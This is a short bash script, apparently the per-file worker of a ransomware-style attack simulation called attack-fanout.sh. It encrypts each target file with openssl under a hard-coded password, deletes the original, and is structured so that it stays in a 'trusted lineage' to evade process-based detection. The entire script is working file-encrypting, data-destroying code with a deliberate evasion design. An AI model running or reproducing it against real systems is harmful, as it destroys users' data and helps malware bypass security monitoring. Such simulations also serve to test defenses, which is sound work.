#!/usr/bin/env bash
# The worker of attack-fanout.sh, one process per file: encrypts FILE with
# openssl to FILE.enc and unlinks FILE. A script of its own (not `sh -c`),
# so that, signed and started through its #! line, it stays in the trusted
# lineage xargs runs it in.
openssl enc -aes-256-ctr -pbkdf2 -iter 1000 -pass pass:medguard -in "$1" -out "$1.enc" && rm -f "$1"
